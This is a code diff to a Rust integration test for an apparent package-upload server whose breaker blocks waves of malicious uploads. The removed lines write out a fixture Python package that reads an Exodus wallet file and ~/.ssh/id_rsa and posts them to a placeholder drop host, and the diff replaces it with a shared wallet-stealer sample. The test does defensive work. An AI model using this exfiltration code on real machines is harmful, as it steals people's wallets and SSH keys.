@@ -1,6 +1,7 @@
 //! A wave of real uploads trips the breaker and is stopped, while an established project uploads on.
 
-use fondaco_testkit::{Answer, Dist, Sdist, Upload, Wheel, fetch, honest_module};
+use fondaco_testkit::samples::attacks;
+use fondaco_testkit::{Answer, Dist, Sample, Upload, Wheel, fetch, honest_module};
 use serde_json::{Value, json};
 
 use crate::house::House;
@@ -9,16 +10,10 @@ use crate::house::House;
 const CONFIG: &str =
     "[server]\ntrusted_proxies = ['127.0.0.1']\n[breaker]\nestablished_after = '0s'\nhold = '1h'\n";
 
-/// A thief, another one each time: nothing but what it does is the same.
+/// A thief, under another name each time.
 fn thief(number: usize) -> Dist {
-    let name = format!("wave{number}tool");
-    let more = "print(1)\n".repeat(number * 7);
-    let code = format!(
-        "import os, requests\n{more}P_{number} = 'https://drop{number}.example.invalid/'\nfor w in \
-         [os.getenv('APPDATA') + '\\\\Exodus\\\\exodus.wallet', os.path.expanduser('~/.ssh/id_rsa')]:\n    \
-         requests.post(P_{number}, files={{'f': open(w, 'rb')}})\n"
-    );
-    Sdist::new(&name, "1.0").file(&format!("{name}/__init__.py"), code).build()
+    let project = Box::leak(format!("wave{number}tool").into_boxed_str());
+    Sample { project, version: "1.0", ..attacks::WALLET_STEALER }.wheel().unwrap()
 }
 
 fn honest(name: &str, version: &str) -> Dist {
@@ -35,7 +30,9 @@ fn send_from(house: &House, dist: &Dist, token: &str, forwarded: &str) -> Answer
 }
 
 fn kind(answer: &Answer) -> String {
-    answer.json()["type"].as_str().unwrap_or_default().to_owned()
+    serde_json::from_str(&answer.text())
+        .map(|problem: Value| problem["type"].as_str().unwrap_or_default().to_owned())
+        .unwrap_or_else(|_| answer.status.to_string())
 }
 
 fn state(house: &House) -> Value {
@@ -107,7 +104,9 @@ fn one_address_is_blocked_and_the_others_begin_as_before() {
     }
     assert_eq!(last, "/problems/blocked");
     let blocks = state(&house)["blocks"].clone();
-    assert_eq!((&blocks[0]["kind"], &blocks[0]["key"]), (&json!("address"), &json!("203.0.113.66")), "{blocks}");
+    let keys: Vec<&str> = blocks.as_array().unwrap().iter().map(|one| one["kind"].as_str().unwrap()).collect();
+    assert_eq!(keys, ["payload", "address"], "{blocks}");
+    assert_eq!(blocks[1]["key"], "203.0.113.66");
     assert_eq!(house.fondaco.get("/api/v1/switches", &[]).json()["switches"], json!([]));
     let late = house.fondaco.token(&["--all-projects"]);
     assert_eq!(send_from(&house, &honest("elsewhere", "1.0"), &late, "198.51.100.7").status, 200);
